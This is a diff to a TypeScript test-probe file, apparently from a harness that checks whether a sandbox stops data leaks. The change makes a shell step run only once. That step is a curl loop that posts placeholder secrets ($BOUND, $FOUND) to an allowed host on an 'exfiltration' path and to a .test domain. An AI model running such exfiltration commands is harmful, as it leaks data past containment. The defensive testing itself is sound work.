@@ -2,10 +2,10 @@
 import { node, type Otherwise, type Probe, type Step, sh } from "../probe.ts";
 import { LEAK } from "./exfiltration.ts";
 
-/** Done in the bottle first, so that there is something to look at; by their paths these are told from whatever else was refused. */
+/** Done in the bottle first, and once, so that there is something to look at; by their paths these are told from whatever else was refused. */
 const TRIED: readonly Step[] = [
   sh(
-    `for how in "-d note=$BOUND https://$ALLOWED_HOST${LEAK}" "https://tried-by-$ID.test" "-d note=clean https://$ALLOWED_HOST" "-d note=$FOUND https://$ALLOWED_HOST${LEAK}" "https://$ALLOWED_HOST${LEAK}/$BOUND"; do curl -sS -o /dev/null $how/tried-by-$ID; done; got "it was tried"`,
+    `[ -e "$scratch/tried" ] || for how in "-d note=$BOUND https://$ALLOWED_HOST${LEAK}" "https://tried-by-$ID.test" "-d note=clean https://$ALLOWED_HOST" "-d note=$FOUND https://$ALLOWED_HOST${LEAK}" "https://$ALLOWED_HOST${LEAK}/$BOUND"; do curl -sS -o /dev/null $how/tried-by-$ID; done; : >"$scratch/tried"; got "it was tried"`,
   ),
 ];
 
